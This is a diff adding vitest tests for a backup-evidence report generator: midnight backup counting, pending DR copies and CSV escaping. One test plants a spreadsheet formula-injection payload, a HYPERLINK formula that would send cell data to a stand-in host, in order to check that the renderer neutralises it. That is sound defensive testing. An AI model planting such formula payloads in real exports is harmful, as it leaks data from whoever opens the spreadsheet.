@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { parseConfig } from '../../../shared/config/schema.js';
 import { buildEvidence, monthRange, monthsEnding, previousMonth } from '../../../shared/report/evidence.js';
 import { renderDatabasesCsv, renderDrillsCsv, renderEvidenceHtml } from '../../../shared/report/render.js';
+import { evidenceNotification } from '../../../shared/report/service.js';
 import type { Snapshot } from '../../../shared/model.js';
 import type { RetentionRecord } from '../../../shared/retention/record.js';
 import { EVIDENCE_MONTH, EVIDENCE_NOW, evidenceConfig, evidenceInputs } from '../../fakes/evidence-estate.js';
@@ -96,6 +97,105 @@ describe('buildEvidence', () => {
     // Assert
     expect(r.complete).toBe(false);
     expect(r.databases.find((d) => d.id === 'ledger')!.backups?.scheduled).toBe(22);
+  });
+
+  it("counts a midnight backup in its own month only: the next month's first fire is not this month's", () => {
+    // Prepare: a daily backup at 00:00 UTC, taken every day from 1 November to 1 December.
+    const config = parseConfig(
+      {
+        ...evidenceConfig,
+        backup: {
+          policies: {
+            daily: { schedule: 'cron(0 0 * * ? *)', kinds: ['rds-instance', 'aurora-cluster'] },
+            cache: { kinds: ['elasticache'], retention: 'cache' },
+          },
+        },
+        retention: evidenceConfig.retention,
+      },
+      'test',
+    );
+    const inputs = evidenceInputs();
+    const midnights: Snapshot[] = Array.from({ length: 31 }, (_, i) => {
+      const t = new Date(Date.UTC(2026, 10, 1 + i));
+      const id = `ledger-${t.toISOString().slice(0, 10).replace(/-/g, '')}0000-sched`;
+      return {
+        kind: 'aurora-cluster',
+        id,
+        arn: `arn:aws:rds:eu-west-1:111122223333:cluster-snapshot:${id}`,
+        region: 'eu-west-1',
+        sourceId: 'ledger',
+        createdAt: new Date(t.getTime() + 60_000).toISOString(),
+        status: 'available',
+        type: 'manual',
+        tags: { 'steward:managed': 'true', 'steward:policy': 'daily', 'steward:source': 'ledger' },
+      };
+    });
+
+    // Act
+    const ledger = buildEvidence(
+      { ...inputs, snapshots: [...inputs.snapshots.filter((x) => x.sourceId !== 'ledger'), ...midnights] },
+      config,
+      EVIDENCE_NOW,
+    ).databases.find((d) => d.id === 'ledger')!;
+
+    // Assert: November has 30 midnights; 1 December 00:00 is December's (on main: 31 scheduled, 31 taken).
+    expect(ledger.backups).toMatchObject({ scheduled: 30, taken: 30, missed: [] });
+  });
+
+  it('says which DR copies of the month it could not judge yet: the last backups inside the DR grace', () => {
+    // Prepare: a daily backup at 22:00 UTC copied to DR within the hour, except 30 November's. At 1 December
+    // 06:00 (the default schedule) that backup is 8 h old, inside the 12 h DR grace.
+    const config = parseConfig(
+      {
+        ...evidenceConfig,
+        backup: {
+          policies: {
+            daily: { schedule: 'cron(0 22 * * ? *)', copyToDr: true, kinds: ['aurora-cluster'] },
+            cache: { kinds: ['elasticache'], retention: 'cache' },
+          },
+        },
+        retention: evidenceConfig.retention,
+      },
+      'test',
+    );
+    const at22 = (day: number, region: string, copied?: boolean): Snapshot => {
+      const t = new Date(Date.UTC(2026, 10, day, 22));
+      const id = `ledger-${t.toISOString().slice(0, 10).replace(/-/g, '')}2200-sched`;
+      return {
+        kind: 'aurora-cluster',
+        id,
+        arn: `arn:aws:rds:${region}:111122223333:cluster-snapshot:${id}`,
+        region,
+        sourceId: 'ledger',
+        createdAt: new Date(t.getTime() + 60_000).toISOString(),
+        status: 'available',
+        type: 'manual',
+        tags: { 'steward:managed': 'true', 'steward:policy': 'daily', 'steward:source': 'ledger' },
+        ...(copied
+          ? { copiedAt: new Date(t.getTime() + 3_600_000).toISOString(), sourceRegion: 'eu-west-1' }
+          : {}),
+      };
+    };
+    const november = Array.from({ length: 30 }, (_, i) => i + 1);
+    const inputs = {
+      ...evidenceInputs(),
+      snapshots: november.map((d) => at22(d, 'eu-west-1')),
+      drSnapshots: november.filter((d) => d < 30).map((d) => at22(d, 'us-west-2', true)),
+      retention: [],
+    };
+
+    // Act
+    const r = buildEvidence(inputs, config, EVIDENCE_NOW);
+    const ledger = r.databases.find((d) => d.id === 'ledger')!;
+
+    // Assert: not "copied", not "missing": not judged yet, and said so (on main it was left out unsaid).
+    expect(ledger.dr).toMatchObject({ copies: 29, notCopied: [], pending: ['2026-11-30T22:00:00.000Z'] });
+    expect(r.summary.drCopiesPending).toBe(1);
+    expect(r.notes.join('\n')).toContain('1 DR copy not judged yet');
+    expect(renderEvidenceHtml(r)).toContain('1 not judged yet');
+    expect(evidenceNotification(r, undefined).lines.join('\n')).toContain(
+      '1 not judged yet (inside the DR grace)',
+    );
   });
 
   it('cannot match a rate() schedule to times, so counts what was taken', () => {
@@ -237,6 +337,27 @@ describe('renderEvidenceHtml and the CSVs', () => {
     expect(lines).toContain('2026-11,legacy-db,rds-instance,mysql,UNPROTECTED,,,,,,,,,,0,0,,,0,0');
     expect(drills.split('\r\n')).toHaveLength(4);
     expect(renderDrillsCsv({ ...report(), month: 'a,"b"' }).split('\r\n')[1]).toMatch(/^"a,""b""",/);
+  });
+
+  it('never writes a cell a spreadsheet runs as a formula: a tag value is data, not a command', () => {
+    // Prepare: anyone who may tag the database sets its steward:backup tag to a formula.
+    const inputs = evidenceInputs();
+    const formula = '=HYPERLINK("https://x.invalid/?d="&A1,"open")';
+    const tagged = {
+      ...inputs,
+      databases: inputs.databases.map((d) =>
+        d.id === 'legacy-db' ? { ...d, tags: { ...d.tags, 'steward:backup': formula } } : d,
+      ),
+    };
+
+    // Act
+    const line = renderDatabasesCsv(buildEvidence(tagged, evidenceConfig, EVIDENCE_NOW))
+      .split('\r\n')
+      .find((l) => l.includes('legacy-db'))!;
+
+    // Assert: the cell keeps the text, led by a quote (OWASP's CSV injection advice); on main it began with =.
+    const policy = line.split(',').slice(4).join(',');
+    expect(policy.startsWith('"\'=HYPERLINK(')).toBe(true);
   });
 
   it('names the month of an empty estate without failing', () => {
